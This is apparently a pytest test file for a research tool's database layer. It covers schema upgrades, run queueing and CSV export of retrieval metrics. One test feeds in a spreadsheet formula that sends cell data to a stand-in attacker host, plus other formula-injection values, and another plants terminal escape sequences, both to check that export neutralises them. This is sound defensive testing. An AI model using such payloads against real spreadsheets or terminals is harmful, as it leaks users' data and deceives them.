"""Opening databases, schema versioning and the tidy CSV export."""

from __future__ import annotations

import csv
import dataclasses
import os

import pytest
from sqlalchemy import inspect, select, text, update

from storage import queue
from storage.db import as_url, open_db
from storage.export import export_csv, export_per_query_csv
from storage.migrations import SCHEMA_VERSION, SchemaError
from storage.models import Run, Study
from storage.queries import (
    PER_QUERY_COLUMNS,
    TIDY_COLUMNS,
    list_runs,
    per_query_values,
    query_value_cells,
    run_warnings,
    tidy_metrics,
)
from tests.storage.schema_v1 import OLD_RUN_ID, create_version_1_database, create_version_2_database
from tests.storage.studies import grid_study
from tests.storage.test_queue import Value
from vocabulary.config import RunConfig
from vocabulary.records import QueryValues


def test_sqlite_pragmas_are_set(db):
    with db.engine.connect() as connection:
        assert connection.execute(text("PRAGMA journal_mode")).scalar() == "wal"
        assert connection.execute(text("PRAGMA foreign_keys")).scalar() == 1
        assert connection.execute(text("PRAGMA busy_timeout")).scalar() == 30000


def test_schema_version_recorded_and_reopen_is_noop(tmp_path):
    path = tmp_path / "v.db"
    open_db(path).dispose()
    db = open_db(path)
    with db.engine.connect() as connection:
        versions = connection.execute(text("SELECT version FROM schema_version")).scalars().all()
    assert versions == list(range(1, SCHEMA_VERSION + 1))


def test_version_1_database_is_upgraded_and_keeps_its_runs(database_url, long_model_folder):
    create_version_1_database(database_url)
    db = open_db(database_url)
    with db.engine.connect() as connection:
        versions = connection.execute(text("SELECT version FROM schema_version ORDER BY version")).scalars().all()
    assert versions == list(range(1, SCHEMA_VERSION + 1))
    (old,) = list_runs(db)
    assert (old.id, old.status, old.label, old.dev_loss) == (OLD_RUN_ID, "done", "mono n=250 seed=0", None)
    assert [(r["run_id"], r["value"]) for r in tidy_metrics(db)] == [(OLD_RUN_ID, 0.4375)]
    # What version 1 refused on PostgreSQL (VARCHAR(200) labels, VARCHAR(200) study names):
    study = dataclasses.replace(grid_study(name="n" * 300, sizes=(2,), seeds=(0,), baseline=True),
                                template=RunConfig(model=long_model_folder, batch_size=2))
    assert len(study.expand()[0].label) > 200
    assert len(queue.submit_study(db, study).queued) == 3
    assert max(len(r.label) for r in list_runs(db)) > 200
    db.dispose()
    reopened = open_db(database_url)  # upgrading is done once
    with reopened.engine.connect() as connection:
        assert connection.execute(text("SELECT count(*) FROM schema_version")).scalar() == SCHEMA_VERSION
    # Version 4 added the per-query table: a run finished after the upgrade stores its per-query values.
    run = queue.claim_next(reopened, "w")
    queue.complete(reopened, run.id, "w", [Value(value=0.5, num_queries=2)], per_query=[CELL])
    assert [(r["query_id"], r["value"]) for r in per_query_values(reopened)] == [("sw:1", 0.25), ("sw:2", 0.75)]
    reopened.dispose()


#: The per-query values behind Value(value=0.5, num_queries=2).
CELL = QueryValues("flores/test", "cross", "sw", "en", "nDCG@10", ("sw:1", "sw:2"), (0.25, 0.75))


def test_version_2_database_gains_the_claiming_process_and_keeps_its_runs(database_url):
    create_version_2_database(database_url)
    db = open_db(database_url)
    with db.engine.connect() as connection:
        versions = connection.execute(text("SELECT version FROM schema_version ORDER BY version")).scalars().all()
    assert versions == list(range(1, SCHEMA_VERSION + 1))
    assert {"worker_host", "worker_pid"} <= {c["name"] for c in inspect(db.engine).get_columns("runs")}
    (old,) = list_runs(db)
    assert (old.id, old.status) == (OLD_RUN_ID, "done")
    claimed = queue.claim_next(db, "w") or queue.claim_next(db, "w")
    assert claimed is None  # nothing queued yet
    run_id = queue.submit_study(db, grid_study(sizes=(2,), seeds=(0,))).queued[0]
    assert queue.claim_next(db, "w").id == run_id
    with db.session() as session:
        claim = session.execute(select(Run.worker_host, Run.worker_pid).where(Run.id == run_id)).one()
    assert tuple(claim) == (queue.this_host(), os.getpid())
    db.dispose()


def test_newer_schema_is_refused(tmp_path):
    path = tmp_path / "future.db"
    db = open_db(path)
    with db.engine.begin() as connection:
        connection.execute(text("INSERT INTO schema_version (version, applied_at) VALUES (99, '2030-01-01')"))
    db.dispose()
    with pytest.raises(SchemaError, match="upgrade hybridscale"):
        open_db(path)


def test_paths_become_sqlite_urls(tmp_path):
    assert as_url(tmp_path / "a.db") == f"sqlite:///{tmp_path / 'a.db'}"
    assert as_url("postgresql+psycopg://u@h/db") == "postgresql+psycopg://u@h/db"
    with pytest.raises(ValueError, match="in-memory"):
        open_db("sqlite://")


def test_artifacts_default_beside_the_sqlite_file(tmp_path):
    assert open_db(tmp_path / "x.db").artifacts_dir == tmp_path / "artifacts"


def test_csv_export_is_tidy_with_config_columns(db, tmp_path):
    first = queue.submit_study(db, grid_study(name="one", sizes=(2, 3), seeds=(0,)))
    queue.submit_study(db, grid_study(name="two", sizes=(3, 4), seeds=(0,)))
    cells = [Value(query_language=q, metric=m, value=v) for q in ("sw", "yo") for m, v in (("nDCG@10", 0.25), ("R@100", 0.75))]
    done = []
    for _ in range(3):
        run = queue.claim_next(db, "w")
        queue.complete(db, run.id, "w", cells)
        done.append(run)

    path = tmp_path / "report.csv"
    assert export_csv(db, path) == 3 * len(cells)
    with path.open(encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert tuple(rows[0]) == TIDY_COLUMNS
    assert len(rows) == 12
    by_run = {r["run_id"]: r for r in rows}
    first_run = by_run[done[0].id]
    assert first_run["strategy"] == done[0].config.strategy
    assert first_run["train_size"] == str(done[0].config.train_size)
    assert first_run["train_languages"] == "+".join(done[0].config.train_languages)
    assert {r["query_language"] for r in rows} == {"sw", "yo"}
    assert sorted({float(r["value"]) for r in rows}) == [0.25, 0.75]

    # Filtering by study keeps only that study's runs.
    only_first = tmp_path / "first.csv"
    expected = len([r for r in done if r.id in first.queued]) * len(cells)
    assert export_csv(db, only_first, study_id=first.study_id) == expected
    with only_first.open(encoding="utf-8") as stream:
        assert {r["study"] for r in csv.DictReader(stream)} == {"one"}


def test_the_untrained_models_rows_leave_the_training_settings_empty(db, tmp_path):
    queue.submit_study(db, grid_study(name="with baseline", sizes=(2,), seeds=(0,), baseline=True))
    cells = [Value(query_language="sw", metric="nDCG@10", value=0.5)]
    while (run := queue.claim_next(db, "w")) is not None:
        queue.complete(db, run.id, "w", cells)
    path = tmp_path / "report.csv"
    export_csv(db, path)
    with path.open(encoding="utf-8") as stream:
        rows = {r["strategy"]: r for r in csv.DictReader(stream)}
    untrained, mono = rows["none"], rows["mono"]
    for column in ("learning_rate", "batch_size", "temperature", "budget", "epochs", "steps", "select", "seed",
                   "data_seed", "train_dataset", "train_languages"):
        assert untrained[column] == "", column
    assert untrained["train_size"] == "0" and untrained["model"] == mono["model"]
    assert mono["learning_rate"] and mono["batch_size"] == "2" and mono["budget"] == "epochs" and mono["seed"] == "0"


def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db, tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    queue.submit_study(db, grid_study(name=formula, sizes=(2,), seeds=(0,)))
    run = queue.claim_next(db, "w")
    cells = [Value(metric="@SUM(1+1)", value=-0.25), Value(metric="+cmd", value=0.5), Value(metric="\tx", value=1.0)]
    queue.complete(db, run.id, "w", cells)
    path = tmp_path / "report.csv"
    export_csv(db, path)
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert {r["study"] for r in rows} == {"'" + formula}
    assert sorted(r["metric"] for r in rows) == ["'\tx", "'+cmd", "'@SUM(1+1)"]
    assert sorted(r["value"] for r in rows) == ["-0.25", "0.5", "1.0"]  # numbers stay numbers


def test_export_into_a_missing_folder_is_refused_and_creates_nothing(db, tmp_path):
    with pytest.raises(FileNotFoundError, match="the folder .*nowhere.* does not exist"):
        export_csv(db, tmp_path / "nowhere" / "deeper" / "report.csv")
    assert not (tmp_path / "nowhere").exists()


def test_per_query_values_are_stored_with_the_run_and_exported_tidy(db, tmp_path):
    queue.submit_study(db, grid_study(name="one", sizes=(2, 3), seeds=(0,)))
    first, second = queue.claim_next(db, "w"), queue.claim_next(db, "w")
    values = (1 / 3, 0.1 + 0.2, 1e-300, 0.0)  # digits a rounding export would lose
    cells = [QueryValues("miracl/dev", "mono", "yo", "yo", "nDCG@10", ("yo:10020#0", "yo:5#1", "yo:7#0", "yo:8#0"), values),
             QueryValues("miracl/dev", "mono", "yo", "yo", "R@100", ("yo:10020#0", "yo:5#1", "yo:7#0", "yo:8#0"),
                         (1.0, 0.5, 0.0, 1.0))]
    rows = [Value(eval_set=c.eval_set, setting=c.setting, query_language=c.query_language, passage_language="yo",
                  metric=c.metric, value=sum(c.values) / 4, num_queries=4) for c in cells]
    queue.complete(db, first.id, "w", rows, per_query=cells, warnings=["miracl/dev: 3 of 9 relevant ... missing"])
    queue.complete(db, second.id, "w", rows[:1], per_query=cells[:1])

    path = tmp_path / "per-query.csv"
    assert export_per_query_csv(db, path) == 4 * 3
    with path.open(encoding="utf-8") as stream:
        exported = list(csv.DictReader(stream))
    assert tuple(exported[0]) == PER_QUERY_COLUMNS
    mine = [r for r in exported if r["run_id"] == first.id and r["metric"] == "nDCG@10"]
    assert [r["query_id"] for r in mine] == ["yo:10020#0", "yo:5#1", "yo:7#0", "yo:8#0"]
    assert tuple(float(r["value"]) for r in mine) == values  # every digit survives
    assert {(r["study"], r["strategy"], r["eval_set"], r["setting"], r["passage_language"]) for r in mine} == {
        ("one", first.config.strategy, "miracl/dev", "mono", "yo")}
    # The mean of a cell's per-query values is its metric row.
    metric_rows = {(r["run_id"], r["metric"]): r["value"] for r in tidy_metrics(db)}
    for run_id, metric in metric_rows:
        cell = [float(r["value"]) for r in exported if (r["run_id"], r["metric"]) == (run_id, metric)]
        assert sum(cell) / len(cell) == pytest.approx(metric_rows[(run_id, metric)], abs=1e-15)
    assert run_warnings(db) == {first.id: ["miracl/dev: 3 of 9 relevant ... missing"]}
    # Completing again (a retried run) replaces the values, not adds to them.
    with db.engine.begin() as connection:
        connection.execute(text("UPDATE runs SET status = 'running' WHERE id = :id"), {"id": second.id})
    queue.complete(db, second.id, "w", rows[:1], per_query=cells[:1])
    assert sum(1 for r in per_query_values(db) if r["run_id"] == second.id) == 4
    # One cell's values stay together, and the filters keep only the cells asked for.
    recall = list(query_value_cells(db, eval_set="miracl/dev", setting="mono", metric="R@100"))
    assert [(c.columns["run_id"], c.metric, c.values) for c in recall] == [(first.id, "R@100", [1.0, 0.5, 0.0, 1.0])]
    assert recall[0].query_ids == list(cells[1].query_ids) and recall[0].columns["passage_language"] == "yo"
    assert list(query_value_cells(db, setting="cross")) == []


def test_per_query_values_are_stored_compactly(db):
    """A cell of 1,000 queries is one row of 8 bytes per value and its ids compressed, not a row per value."""
    queue.submit_study(db, grid_study(sizes=(2,), seeds=(0,)))
    run = queue.claim_next(db, "w")
    ids = tuple(f"sw:{i}" for i in range(1000))
    cell = QueryValues("flores/all", "cross", "sw", "en", "nDCG@10", ids, tuple(i / 1000 for i in range(1000)))
    queue.complete(db, run.id, "w", [Value(value=0.4995, num_queries=1000)], per_query=[cell])
    with db.engine.connect() as connection:
        count, size, ids = connection.execute(
            text("SELECT count(*), sum(length(packed_values)), sum(length(packed_ids)) FROM query_values")).one()
    assert (count, size) == (1, 8000) and ids < len("\n".join(cell.query_ids)) / 3


def test_csv_says_how_a_size_is_split_and_which_runs_are_not_zero_shot(db, tmp_path):
    from vocabulary.config import EvalSpec, StudyConfig

    template = RunConfig(train_dataset=["xquad", "miracl-train"], train_languages=("en", "de", "sw"), batch_size=4,
                         evaluations=(EvalSpec("miracl", ("sw",), "dev"),))
    study = StudyConfig(name="in-language", strategies=("mono",), train_sizes=(100,), include_baseline=False,
                        template=template)
    queue.submit_study(db, study)
    run = queue.claim_next(db, "w")
    assert list_runs(db)[0].label.endswith("[not zero-shot: sw]")  # what the queue shows
    queue.complete(db, run.id, "w", [Value(query_language="sw", metric="nDCG@10", value=0.5)])
    path = tmp_path / "report.csv"
    export_csv(db, path)
    with path.open(encoding="utf-8") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["train_dataset"] == "xquad+miracl-train"
    assert row["size_split"] == "xquad 60 + miracl-train 40"  # 100 split 1190 : 801 (no XQuAD-R eval: all of XQuAD)
    assert row["zero_shot"] == "not zero-shot: sw"
    assert row["series"] == "mono [not zero-shot: sw]"


def test_control_characters_already_in_the_database_are_escaped_in_every_csv(db, tmp_path):
    """A name stored before submit refused them (or written by anyone who can write the database)."""
    queue.submit_study(db, grid_study(name="plain", sizes=(2,), seeds=(0,)))
    with db.session() as session:
        session.execute(update(Study).values(name="clear\x1b[2J\x07\x00\u202eend"))
    run = queue.claim_next(db, "w")
    cell = QueryValues("flores/test", "mono", "yo", "yo", "nDCG@10", ("q\x1b]0;pwned\x07",), (0.5,))
    queue.complete(db, run.id, "w", [Value(metric="nDCG@10", value=0.5)], per_query=[cell])
    export_csv(db, tmp_path / "report.csv")
    export_per_query_csv(db, tmp_path / "per_query.csv")
    for name in ("report.csv", "per_query.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert not any(c in text for c in "\x1b\x07\x00\u202e"), name
        assert "clear\\x1b[2J\\x07\\x00\\u202eend" in text
    assert "q\\x1b]0;pwned\\x07" in (tmp_path / "per_query.csv").read_text(encoding="utf-8")


def test_the_passage_languages_a_study_searched_leave_the_pool_out(db):
    from storage.queries import stored_passage_languages

    submitted = queue.submit_study(db, grid_study(name="pools", sizes=(2,), seeds=(0,)))
    run = queue.claim_next(db, "w")
    ids, values = ("q1", "q2"), (0.5, 1.0)
    cells = [QueryValues("afriqa/test", setting, "sw", passages, "nDCG@10", ids, values)
             for setting, passages in (("cross", "en"), ("multi", "all"))]
    cells += [QueryValues("flores/test", setting, "sw", passages, "nDCG@10", ids, values)
              for setting, passages in (("cross", "en"), ("cross", "yo"), ("multi", "all"))]
    rows = [Value(eval_set=c.eval_set, setting=c.setting, query_language="sw", passage_language=c.passage_language,
                  metric="nDCG@10", value=0.75, num_queries=2) for c in cells]
    queue.complete(db, run.id, "w", rows, per_query=cells)
    assert stored_passage_languages(db, submitted.study_id) == {"afriqa/test": {"en"}, "flores/test": {"en", "yo"}}
    # So the report leaves out a pool of one passage language: it would repeat the cross tables.
    from hybridscale.report import reported

    assert reported(db, submitted.study_id) == [("afriqa/test", "cross", "nDCG@10"), ("flores/test", "cross", "nDCG@10"),
                                                ("flores/test", "multi", "nDCG@10")]
